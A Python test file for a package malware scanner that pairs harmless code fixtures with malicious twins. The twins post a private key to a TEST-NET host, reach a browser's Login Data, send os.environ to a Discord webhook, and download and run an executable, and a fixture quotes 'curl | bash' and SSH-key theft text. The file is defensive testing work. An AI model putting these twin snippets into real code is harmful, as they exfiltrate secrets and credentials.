"""Round 12 (helper F) false-alarm classes, each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan


def _threats(result):
    return [(t.id, t.severity, t.steps[:2]) for t in result.threats]


# ---------------------------------------------------------------- a key used only to sign
# zi_api_auth_client hands its private_key parameter to its own _get_client_jwt, which signs a
# JWT with it (jwt.encode(claims, private_key, algorithm='RS256')); the request carries the
# signed token. The parameter's name made it a wallet key and the token a leak of it.
JWT_CLIENT = """import jwt
import requests


class AuthClient:
    url = "https://api.example.invalid/authenticate"

    def pki_authentication(self, client_id, private_key):
        return self._post_and_get_jwt(client_id, private_key)

    def _post_and_get_jwt(self, client_id, private_key):
        client_jwt = self._get_client_jwt(client_id, private_key)
        headers = {"Authorization": f"Bearer {client_jwt}"}
        return requests.post(self.url, headers=headers).json()["jwt"]

    def _get_client_jwt(self, client_id, private_key):
        claims = {"client_id": client_id}
        return jwt.encode(claims, private_key, algorithm="RS256")
"""


def test_a_private_key_only_signed_with_is_not_sent(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/auth.py": JWT_CLIENT}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_a_private_key_put_in_the_request_beside_the_signature_is_still_sent(tmp_path):
    leak = JWT_CLIENT.replace(
        '"Authorization": f"Bearer {client_jwt}"',
        '"Authorization": f"Bearer {client_jwt}", "X-Key": private_key',
    )
    result = scan({"pkg/__init__.py": "", "pkg/auth.py": leak}, tmp_path)
    assert_high_with("key in a header", result, ["chain.exfiltration"])


def test_a_key_signed_with_and_also_posted_is_still_sent(tmp_path):
    drainer = (
        "import requests\nfrom eth_account import Account\n\n\n"
        "def transfer(tx, private_key):\n"
        "    signed = Account.sign_transaction(tx, private_key)\n"
        "    requests.post('https://198.51.100.7/t', data=[{'key', private_key}])\n"
        "    return signed\n"
    )
    result = scan({"pkg/__init__.py": "", "pkg/main.py": drainer}, tmp_path)
    assert_high_with("signed and posted", result, ["chain.exfiltration"])


# ---------------------------------------------------------------- a browser's program file
# notebooklm-mcp-cli lists where each browser's program lies to start it for DevTools:
# roaming / r"Opera Software\Opera Stable\launcher.exe". Opera's profile folder holds its
# launcher; the path names the program, and with the tool's requests it made chain.exfiltration.
BROWSERS = """import httpx
from pathlib import Path

client = httpx.Client(trust_env=False)


def candidates(roaming: Path):
    return [
        ("Opera", str(roaming / r"Opera Software\\Opera Stable\\launcher.exe")),
        ("Opera GX", str(roaming / r"Opera Software\\Opera GX Stable\\launcher.exe")),
    ]


def version(port):
    return client.get(f"http://127.0.0.1:{port}/json/version").json()


def post(url, body):
    return client.post(url, json=body)
"""


def test_a_browser_program_path_is_not_its_store(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/cdp.py": BROWSERS}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_a_browser_profile_folder_beside_requests_is_still_a_stealer(tmp_path):
    stealer = BROWSERS.replace("Opera Stable\\launcher.exe", "Opera Stable\\Login Data")
    stealer = stealer.replace("Opera GX Stable\\launcher.exe", "Opera GX Stable")
    result = scan({"pkg/__init__.py": "", "pkg/cdp.py": stealer}, tmp_path)
    assert_high_with("opera profile", result, ["chain.exfiltration", "place.import_time"])


# ---------------------------------------------------------------- a catalogue written as Python
# assemblyline's attack_map.py is generated: one dict literal of MITRE ATT&CK techniques whose
# descriptions speak of webhooks, browser stores, Run keys and curl | sh. A module of nothing
# but literal bindings runs nothing on import; its strings are text held, like a JSON file's.
ATTACK_MAP = """# generated
attack_map = {
 "T1547.001": {"name": "Run Keys",
               "description": "Adversaries may add a program to "
                              "HKEY_CURRENT_USER\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run "
                              "or the Startup folder, or run systemctl enable on a unit."},
 "T1555.003": {"name": "Browsers",
               "description": "Adversaries may read Login Data of Google/Chrome/User Data/Default "
                              "and ~/.ssh/id_rsa to steal credentials."},
 "T1105": {"name": "Ingress Tool Transfer",
           "description": "For example curl -s https://198.51.100.7/x.sh | bash may be used."},
 "T1567.004": {"name": "Exfiltration Over Webhook",
               "description": "Services such as https://discord.com/api/webhooks/1/abc "
                              "and webhook.site receive the data."},
}
revoke_map = {"T1": "T2", "T3": "T4", "T5": "T6"}
"""


def test_a_data_module_of_technique_descriptions_is_text(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/attack_map.py": ATTACK_MAP}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_the_same_table_in_a_module_that_acts_on_it_is_still_caught(tmp_path):
    acting = (
        "import os\nimport requests\n\n"
        + ATTACK_MAP
        + "\nfor k, v in attack_map.items():\n    os.system(v['description'])\n"
        + "requests.post('https://discord.com/api/webhooks/1/abc', data=dict(os.environ))\n"
    )
    result = scan({"pkg/__init__.py": "", "pkg/attack_map.py": acting}, tmp_path)
    assert_high_with(
        "acting table",
        result,
        ["chain.exfiltration", "chain.exfil_endpoint", "place.import_time"],
    )


def test_a_lone_webhook_setting_in_a_literal_module_is_still_an_endpoint(tmp_path):
    config = "WEBHOOK = 'https://discord.com/api/webhooks/123456/abcdefghijklmnop'\n"
    result = scan({"pkg/__init__.py": "", "pkg/config.py": config}, tmp_path)
    assert_high_with("config webhook", result, ["chain.exfil_endpoint"])


# ---------------------------------------------------------------- a command in an error message
# matrice's docker_utils binds a setup hint at module level and only ever raises it:
# RuntimeError(_DOCKER_SETUP_HINT), whose text tells the operator "sudo systemctl enable --now
# docker". A command quoted for a person to type is not run.
HINT = """import subprocess

_HINT = (
    "Docker is not installed. Please install it, e.g.:\\n"
    "  sudo apt-get install -y docker.io\\n"
    "  # Ensure the daemon is running:\\n"
    "  sudo systemctl enable --now docker\\n"
)


def check():
    try:
        subprocess.run(["docker", "info"], check=True)
    except FileNotFoundError:
        raise RuntimeError(_HINT) from None


def check_again():
    if subprocess.run(["docker", "ps"]).returncode:
        raise RuntimeError("docker: " + _HINT)
"""


def test_an_autostart_command_only_raised_as_a_message_is_quoted(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/docker_utils.py": HINT}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_the_same_text_handed_to_a_shell_is_still_persistence(tmp_path):
    run = HINT + "\n\nsubprocess.run(_HINT, shell=True)\n"
    result = scan({"pkg/__init__.py": "", "pkg/docker_utils.py": run}, tmp_path)
    assert_high_with("hint run", result, ["impact.persistence", "place.import_time"])


# ---------------------------------------------------------------- curl by its Windows name
# drug_named_entity_recognition fetches its data with curl.exe on Windows and wget elsewhere,
# then unzips it. curl.exe is the curl Windows ships: starting it is the download, not a run of
# a file beside the code, as wget by name already was.
FETCH = """import os
import subprocess
import zipfile
from sys import platform


def download(dest):
    url = "https://data.example.invalid/structures.sdf.zip"
    if "win" in platform:
        tmpfile = "C:/temp/tmp.zip"
        p = subprocess.Popen(["curl.exe", "--output", tmpfile, "--url", url])
    else:
        tmpfile = "/tmp/tmp.zip"
        p = subprocess.Popen(["wget", "-O", tmpfile, url])
    os.waitpid(p.pid, 0)
    with zipfile.ZipFile(tmpfile) as z:
        z.extractall(dest)
"""


def test_curl_exe_fetching_data_is_a_download_not_a_run(tmp_path):
    result = scan({"pkg/__init__.py": "", "pkg/fetch.py": FETCH}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)


def test_curl_exe_fetching_a_program_that_is_then_started_is_still_the_chain(tmp_path):
    run = FETCH.replace("tmp.zip", "tmp.exe").replace(
        "    with zipfile.ZipFile(tmpfile) as z:\n        z.extractall(dest)\n",
        "    subprocess.Popen([tmpfile])\n",
    )
    result = scan({"pkg/__init__.py": "", "pkg/fetch.py": run}, tmp_path)
    assert_high_with("curl.exe then run", result, ["chain.download_execute"])
